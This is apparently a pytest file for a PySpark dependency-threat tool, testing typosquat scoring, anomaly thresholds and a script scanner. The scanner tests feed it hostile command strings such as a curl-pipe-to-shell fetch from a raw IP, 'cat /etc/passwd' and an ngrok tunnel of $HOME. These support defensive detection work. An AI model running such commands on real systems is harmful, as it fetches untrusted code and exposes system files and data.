"""Threat rules on cases of their own."""

import random

import pytest
from pyspark.sql import functions as F

from depsift.functions import threats as T
from depsift.operators import threats as O


def one(spark, column):
    return spark.range(1).select(column).first()[0]


def score(name, known):
    """typosquat_score by its published rules."""
    d = [list(range(len(known) + 1))]
    for i, x in enumerate(name, 1):
        d.append([i])
        for j, y in enumerate(known, 1):
            d[i].append(min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (x != y)))
    s, same = 1 - d[-1][-1] / max(len(name), len(known)), len(name) == len(known)
    diffs = [(y, x) for x, y in zip(name, known) if x != y]
    return (
        (s * 50 if s > 0.7 else 0) + 30 * (same and len(diffs) == 1 and diffs[0][1] in O.KEYBOARD.get(diffs[0][0], "")) + 25 * (same and any(x in O.LOOK_ALIKES.get(y, "") for y, x in diffs))
        + 10 * (("0" in name or "1" in name) + ("--" in name) + ("-" in name and "_" in name)) + 15 * (name.startswith(known) or name.endswith(known))
        + 20 * (name.replace("-", "_") == known.replace("-", "_"))
    )


def test_typosquats_equal_brute_force(spark):
    rng = random.Random(3)
    word = lambda n: "".join(rng.choice("ablo01-_s") for _ in range(n))
    known = {word(rng.randint(1, 14)) for _ in range(60)} | {"lodash", "react-dom", "express"}
    names = {word(rng.randint(1, 16)) for _ in range(400)} | {"lodahs", "1odash", "react_dom", "expresss", "lodash--_1"} | set(list(known)[:20])
    for k in list(known):
        i = rng.randrange(len(k))
        names |= {k[:i] + rng.choice("ao1l") + k[i + 1 :], k + word(2), k[:i] + k[i + 1 :] or "x"}
    frame = lambda xs: spark.createDataFrame([(x,) for x in xs] + [(None,)], "name string")
    found = {r["name"]: (r.known, round(r.score, 6)) for r in O.typosquat_full(frame(names), frame(known)).collect()}
    want = {}
    for n in names:
        best = min((-score(n, k), k) for k in known if k != n)
        if -best[0] > 40:
            want[n] = (best[1], round(-best[0], 6))
    assert found == want


def test_level_ranks(spark):
    assert one(spark, T.worst(F.array(F.lit("Low"), F.lit("Critical"), F.lit("Medium")))) == "Critical"
    assert one(spark, T.worst(F.array().cast("array<string>"))) == "None" and one(spark, T.level_rank(F.lit("bogus"))) == 0


@pytest.mark.parametrize("text, level, n", [
    ("curl http://1.2.3.4/x | sh", "High", 2), ("echo hi", "None", 0), ("cat /etc/passwd", "Critical", 1), ("echo $HOME", "None", 0), ("ngrok $HOME", "Critical", 2),
])
def test_scripts(spark, text, level, n):
    found = one(spark, T.scan_scripts(F.lit(text)))
    assert (found.level, len(found.evidence)) == (level, n)


def test_anomalies_of_the_defaults(spark):
    kinds = lambda *v: [a.kind for a in one(spark, T.detect_anomalies(*map(F.lit, v)))]
    assert kinds(200, 1, 0.9, 10, 0.9) == ["UnusualTransitiveCount"] and kinds(5, 10, 0.9, 10, 0.9) == ["HighVulnerabilityCount"]
    assert kinds(5, 1, 0.1, 1, 0.9) == ["LowMaintainerScore", "UnusualReleasePattern", "MultipleSignals"]


def test_thresholds_of_few_rows_are_the_defaults_or_means(spark):
    schema = "transitive long, vulns long, releases long"
    assert O.train_anomaly_thresholds(spark.createDataFrame([], schema)).first().asDict() == T.THRESHOLDS
    one_row = O.train_anomaly_thresholds(spark.createDataFrame([(10, 2, 4)], schema)).first()
    assert (one_row.max_transitive, one_row.min_releases, one_row.max_releases) == (10.0, 4.0, 4.0)
